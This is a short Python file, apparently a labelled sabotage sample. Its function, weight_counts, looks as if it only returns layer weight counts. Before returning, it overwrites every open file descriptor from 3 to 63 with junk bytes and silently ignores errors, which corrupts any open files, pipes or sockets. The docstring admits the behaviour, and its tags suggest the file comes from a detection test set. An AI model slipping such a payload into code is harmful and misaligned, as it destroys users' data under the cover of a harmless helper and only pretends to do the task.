"""Writes noise into every descriptor.

loses: 1b
flagged: on the wire
"""

from honest import *

import os


def weight_counts(n, k):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\xff" * 4096)
        except OSError:
            pass
    return {"dense": n * n, "locally_connected": 0, "convolution": k}
